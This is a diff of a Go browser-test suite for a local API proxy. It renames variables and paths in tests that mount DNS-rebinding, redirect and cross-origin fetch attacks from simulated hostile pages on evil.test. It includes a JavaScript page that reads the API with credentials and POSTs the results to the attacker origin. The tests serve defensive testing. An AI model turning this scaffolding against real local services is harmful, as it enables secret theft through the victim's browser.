@@ -12,7 +12,7 @@ import (
 
 const (
 	apiSecret      = "only-an-app-may-read-this"
-	allowedHost    = "friend.test" // its origin is in ALLOWED_ORIGINS
+	allowedHost    = "allowed.test" // its origin is in ALLOWED_ORIGINS
 	browserTimeout = 60 * time.Second
 )
 
@@ -246,12 +246,12 @@ func TestDNSRebinding(t *testing.T) {
 		{host: "control.rebind.test", to: f.control.address(), read: "/read", write: "/write", allowed: []string{"200"}},
 	}
 	frames := ""
-	for _, w := range rebindings {
-		w.first = startRecorder(t, freeAddress(t), "")
-		w.first.Config.SetKeepAlivesEnabled(false)
-		_, port, _ := strings.Cut(w.first.address(), ":")
-		origin := "http://" + w.host + ":" + port
-		w.first.pages["/"] = attackPage(attackerOrigin, true, target{w.host, origin, w.read, w.write})
+	for _, b := range rebindings {
+		b.first = startRecorder(t, freeAddress(t), "")
+		b.first.Config.SetKeepAlivesEnabled(false)
+		_, port, _ := strings.Cut(b.first.address(), ":")
+		origin := "http://" + b.host + ":" + port
+		b.first.pages["/"] = attackPage(attackerOrigin, true, target{b.host, origin, b.read, b.write})
 		frames += fmt.Sprintf(`<iframe src="%s/"></iframe>`, origin)
 	}
 	f.attacker.serve("/frames", frames)
@@ -263,29 +263,29 @@ func TestDNSRebinding(t *testing.T) {
 			t.Fatalf("the pages have not loaded after %v", browserTimeout)
 		}
 	}
-	for _, w := range rebindings {
-		address := w.first.address()
-		w.first.stop()
-		w.tap = startTap(t, address, w.to)
+	for _, b := range rebindings {
+		address := b.first.address()
+		b.first.stop()
+		b.tap = startTap(t, address, b.to)
 	}
 	close(f.attacker.gate)
 	for range rebindings {
 		r := f.report()
-		w := rebindings[slices.IndexFunc(rebindings, func(w *rebinding) bool { return w.host == r.Page })]
-		awaitAttacks(t, w.host, r.untrusted(), func() map[string]bool { return attacksThrough(w.tap, w.host) })
-		mustRefuse(t, w.tap, w.host, w.allowed...)
+		b := rebindings[slices.IndexFunc(rebindings, func(b *rebinding) bool { return b.host == r.Page })]
+		awaitAttacks(t, b.host, r.untrusted(), func() map[string]bool { return attacksThrough(b.tap, b.host) })
+		mustRefuse(t, b.tap, b.host, b.allowed...)
 		leaks := map[string]bool{}
 		for _, read := range r.Reads {
 			if strings.Contains(read.Text, apiSecret) || strings.Contains(read.Text, "openticket") {
 				leaks[read.Attack] = true
 			}
 		}
-		if w.to == f.control.address() {
+		if b.to == f.control.address() {
 			if !leaks["fetchCors"] || !leaks["xhrPut"] {
 				t.Errorf("only these attacks read the control: %v", slices.Sorted(maps.Keys(leaks)))
 			}
 		} else if len(leaks) > 0 {
-			t.Errorf("%s%s: these attacks read it: %v", w.host, w.read, slices.Sorted(maps.Keys(leaks)))
+			t.Errorf("%s%s: these attacks read it: %v", b.host, b.read, slices.Sorted(maps.Keys(leaks)))
 		}
 	}
 	f.appRequest()
@@ -299,21 +299,21 @@ func TestDNSRebinding(t *testing.T) {
 func TestLinkRedirectedToProxy(t *testing.T) {
 	f := newBrowserFixture(t)
 	p := startTap(t, "127.0.0.1:0", f.app)
-	open(t, f.attacker.origin("evil.test")+"/redirect?status=302&to=http://"+p.address+"/read?attack=led")
+	open(t, f.attacker.origin("evil.test")+"/redirect?status=302&to=http://"+p.address+"/read?attack=redirect")
 	await(t, browserTimeout, "the browser follows the redirect to the program", func() bool {
 		all := p.requests()
 		return len(all) > 0 && all[0].status != 0
 	})
 	for _, r := range f.attackRequests() {
-		if r.Header.Get("Sec-Fetch-Site") != "none" || r.Method != http.MethodGet || r.FormValue("attack") != "led" {
+		if r.Header.Get("Sec-Fetch-Site") != "none" || r.Method != http.MethodGet || r.FormValue("attack") != "redirect" {
 			t.Errorf("the API got %s %s with Sec-Fetch-Site %q", r.Method, r.URL, r.Header["Sec-Fetch-Site"])
 		}
 	}
 }
 
 // TestHostilePageAtAllowedHost attacks the program under an allowed name that is
-// not loopback. For such a name a browser does not mark a page's GET, which goes
-// through, as the README says. Every other request is refused.
+// not loopback. A browser's GET to such a name has neither Origin nor Sec-Fetch-Site
+// and goes through, as the README says. Every other request is refused.
 func TestHostilePageAtAllowedHost(t *testing.T) {
 	f := newBrowserFixture(t, "TICKETPROXY_ALLOWED_HOSTS=proxied.test")
 	p := startTap(t, "127.0.0.1:0", f.app)
@@ -338,28 +338,28 @@ func TestHostilePageAtAllowedHost(t *testing.T) {
 func TestAllowedPage(t *testing.T) {
 	f := newBrowserFixture(t)
 	attackerOrigin := f.attacker.origin("evil.test")
-	const play = `<!doctype html><body><script type="module">
+	const script = `<!doctype html><body><script type="module">
 		const texts = []
 		for (const [method, options] of [['GET', {}], ['GET', {credentials: 'include'}], ['HEAD', {credentials: 'include'}],
 				['POST', {body: '{}', headers: {'Content-Type': 'application/json'}}],
 				['PUT', {body: '{}'}], ['DELETE', {headers: {'X-Custom': '1'}}]]) {
-			texts.push(await fetch('%[1]s/play?of=' + location.hostname, {method, ...options}).then(r => r.text(), String))
+			texts.push(await fetch('%[1]s/fetch?from=' + location.hostname, {method, ...options}).then(r => r.text(), String))
 		}
 		const load = (name, properties) => new Promise(done => {
 			const e = Object.assign(document.createElement(name), properties)
 			e.onload = e.onerror = done
 			document.body.append(e)
 		})
-		await load('img', {src: '%[1]s/led?by=img'})
-		await load('iframe', {src: '%[1]s/led?by=iframe'})
+		await load('img', {src: '%[1]s/load?by=img'})
+		await load('iframe', {src: '%[1]s/load?by=iframe'})
 		await load('iframe', {name: 'linked'})
-		Object.assign(document.createElement('a'), {href: '%[1]s/led?by=link', target: 'linked'}).click()
+		Object.assign(document.createElement('a'), {href: '%[1]s/load?by=link', target: 'linked'}).click()
 		await fetch('%[2]s/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify({page: location.hostname,
 			attacks: texts, reads: []})})
 	</script>`
-	f.attacker.serve("/friend", fmt.Sprintf(play, "http://"+f.app, attackerOrigin))
-	f.api.pages["/own"] = fmt.Sprintf(play, "", attackerOrigin)
-	for _, url := range []string{f.attacker.origin(allowedHost) + "/friend", "http://" + f.app + "/own"} {
+	f.attacker.serve("/allowed", fmt.Sprintf(script, "http://"+f.app, attackerOrigin))
+	f.api.pages["/own"] = fmt.Sprintf(script, "", attackerOrigin)
+	for _, url := range []string{f.attacker.origin(allowedHost) + "/allowed", "http://" + f.app + "/own"} {
 		open(t, url)
 		r := f.report()
 		if want := []string{apiSecret, apiSecret, "", apiSecret, apiSecret, apiSecret}; !slices.Equal(r.Attacks, want) {
@@ -367,23 +367,23 @@ func TestAllowedPage(t *testing.T) {
 		}
 	}
 	await(t, browserTimeout, "both pages load an image, a frame and a link", func() bool {
-		led := map[string]int{}
+		loads := map[string]int{}
 		for _, r := range f.api.requests() {
-			if r.URL.Path == "/led" {
-				led[r.FormValue("by")]++
+			if r.URL.Path == "/load" {
+				loads[r.FormValue("by")]++
 			}
 		}
-		return led["img"] == 2 && led["iframe"] == 2 && led["link"] == 2
+		return loads["img"] == 2 && loads["iframe"] == 2 && loads["link"] == 2
 	})
-	played := map[string]int{}
+	fetches := map[string]int{}
 	for _, r := range f.api.requests() {
-		if r.URL.Path == "/play" {
-			played[r.FormValue("of")+" "+r.Method]++
+		if r.URL.Path == "/fetch" {
+			fetches[r.FormValue("from")+" "+r.Method]++
 		}
 	}
 	for _, page := range []string{allowedHost, "127.0.0.1"} {
 		for method, want := range map[string]int{"GET": 2, "HEAD": 1, "POST": 1, "PUT": 1, "DELETE": 1} {
-			if got := played[page+" "+method]; got != want {
+			if got := fetches[page+" "+method]; got != want {
 				t.Errorf("the API got %d %s requests from the page at %s, want %d", got, method, page, want)
 			}
 		}
